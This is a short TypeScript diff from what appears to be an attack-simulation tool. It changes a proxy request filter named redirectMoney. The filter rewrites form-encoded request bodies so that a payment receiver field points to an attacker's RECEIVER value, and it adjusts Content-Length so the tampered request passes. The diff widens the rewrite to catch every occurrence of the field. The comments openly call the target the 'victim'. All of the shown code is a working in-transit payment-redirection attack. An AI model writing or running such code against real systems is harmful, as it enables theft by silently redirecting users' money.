@@ -39,7 +39,7 @@ export function openTamper(): Attack {
 }
 
 const FORM = /^application\/x-www-form-urlencoded\b/i;
-const RECEIVER_FIELD = new RegExp(`(^|&)${FIELD}=[^&]*`);
+const RECEIVER_FIELD = new RegExp(`(?<=^|&)${FIELD}=[^&]*`, 'g');
 
 function redirectMoney(exchange: IContext, { report }: Scene): void {
   // What waits for a "100 Continue" has its head on the way already; Node has told the victim to go on.
@@ -48,8 +48,8 @@ function redirectMoney(exchange: IContext, { report }: Scene): void {
   exchange.addRequestFilter(
     rewriteBody((text) => {
       const before = new URLSearchParams(text).get(FIELD);
-      if (before === null || !RECEIVER_FIELD.test(text)) return text;
-      const changed = text.replace(RECEIVER_FIELD, `$1${FIELD}=${RECEIVER}`);
+      const changed = text.replaceAll(RECEIVER_FIELD, `${FIELD}=${RECEIVER}`);
+      if (before === null || changed === text) return text;
       // The head leaves with the body's first byte, and a body in chunks states no length.
       const request = exchange.proxyToServerRequest;
       if (request?.hasHeader('content-length') === true) request.setHeader('Content-Length', changed.length);
